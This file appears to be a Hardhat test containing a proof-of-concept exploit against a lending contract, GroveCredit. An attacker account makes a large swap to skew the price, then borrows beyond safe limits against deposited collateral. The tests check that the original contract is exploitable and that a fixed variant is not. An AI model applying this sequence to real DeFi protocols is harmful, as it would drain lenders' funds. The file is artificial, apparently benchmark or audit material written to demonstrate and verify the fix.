import { expect } from "chai";
import { network } from "hardhat";
import { parseEther, parseUnits } from "viem";

async function attack(contract: string): Promise<boolean> {
  const { viem } = await network.create();
  const grv = await viem.deployContract("GroveCreditGrv");
  const usdc = await viem.deployContract("GroveCreditUsdc");
  const credit = await viem.deployContract(contract, [grv.address, usdc.address]);
  const clock = await viem.getTestClient();
  const [treasury, eve] = await viem.getWalletClients();
  for (const [client, grvs, usdcs] of [[treasury, "1100000", "6000000"], [eve, "100000", "2000000"]] as const) {
    await grv.write.mint([client.account.address, parseEther(grvs)]);
    await usdc.write.mint([client.account.address, parseUnits(usdcs, 6)]);
    await grv.write.approve([credit.address, 2n ** 255n], { account: client.account });
    await usdc.write.approve([credit.address, 2n ** 255n], { account: client.account });
  }
  await credit.write.addLiquidity([parseEther("1000000"), parseUnits("2000000", 6)]);
  await credit.write.fund([parseUnits("3000000", 6)]);
  await clock.increaseTime({ seconds: 3_600 });
  await credit.write.observe();
  await clock.increaseTime({ seconds: 1_200 });
  await credit.write.swap([false, parseUnits("12000", 6), 0n]);
  await clock.increaseTime({ seconds: 200 });
  await credit.write.swap([true, parseEther("5950"), 0n]);
  await clock.increaseTime({ seconds: 3_000 });

  const account = eve.account;
  await credit.write.swap([false, parseUnits("2000000", 6), 0n], { account });
  await credit.write.depositCollateral([parseEther("400000")], { account });
  const worthAtAverage = (parseEther("400000") * ((await credit.read.averagePrice()) as bigint)) / 10n ** 18n;
  await credit.write.borrow([(worthAtAverage * 49n) / 100n], { account });

  const debt = (await credit.read.debtOf([account.address])) as bigint;
  const collateral = (await credit.read.collateralOf([account.address])) as bigint;
  return debt <= (collateral * 2n) / 10n ** 12n;
}

describe("GroveCredit", () => {
  it("is broken", async () => expect(await attack("GroveCredit")).to.equal(false));
  it("holds when fixed", async () => expect(await attack("GroveCreditFixed")).to.equal(true));
});
